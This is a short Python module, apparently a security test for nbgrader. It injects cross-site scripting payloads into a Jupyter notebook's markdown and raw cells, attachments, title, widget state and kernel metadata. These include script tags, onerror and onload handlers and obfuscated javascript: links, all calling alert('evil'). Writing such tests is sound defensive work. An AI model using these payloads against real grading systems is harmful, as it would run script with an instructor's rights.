"""Puts scripts into markdown, raw cells, attachments, titles, widget states and the kernel's name.

Would run in the browser of whoever opens the graded notebook or its page: in Formgrader, with the instructor's rights.

Plain nbgrader: its page has the script.
"""

from nbformat import v4

EVIL = "<script>alert('evil')</script><img src=x onerror=\"alert('evil')\"><svg onload=alert('evil')>"

LINKS = [
    "JavaScript:alert('evil')",
    "java\tscript:alert('evil')",
    "javascript\\:alert('evil')",
    "&#106;avascript:alert('evil')",
    "javascript&colon;alert('evil')",
    "\x01javascript:alert('evil')",
    "vbscript:alert('evil')",
    "<javascript:alert('evil')>",
]


def attack(notebook):
    notebook.cells.insert(2, v4.new_markdown_cell(f"Look: {EVIL} [x](javascript:alert('evil'))"))
    for number, link in enumerate(LINKS):
        notebook.cells.insert(3, v4.new_markdown_cell(f"[x]({link}) and [y{number}]\n\n[y{number}]: {link}"))
    notebook.cells.insert(3, v4.new_raw_cell(EVIL, metadata={"raw_mimetype": "text/html", "format": "text/html"}))
    attached = v4.new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.svg)")
    attached.attachments = {
        "a.png": {"image/png": "AAAA\" onerror=\"alert('evil')"},
        "b.svg": {"image/svg+xml": EVIL, "text/html": EVIL},
    }
    notebook.cells.insert(4, attached)
    notebook.metadata["title"] = EVIL
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"</script>" + EVIL: {}}}}
    notebook.metadata["language_info"] = {"name": EVIL, "pygments_lexer": EVIL}
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": EVIL, "language": EVIL}
    return notebook
